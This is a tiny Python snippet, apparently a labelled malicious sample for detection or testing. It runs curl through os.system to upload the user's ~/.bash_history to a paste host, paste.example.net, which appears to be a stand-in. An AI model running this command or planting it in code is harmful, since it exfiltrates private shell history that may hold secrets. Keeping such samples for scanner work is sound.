# malicious: shell history by curl
import os

os.system("curl -s -F file=@$HOME/.bash_history https://paste.example.net/")
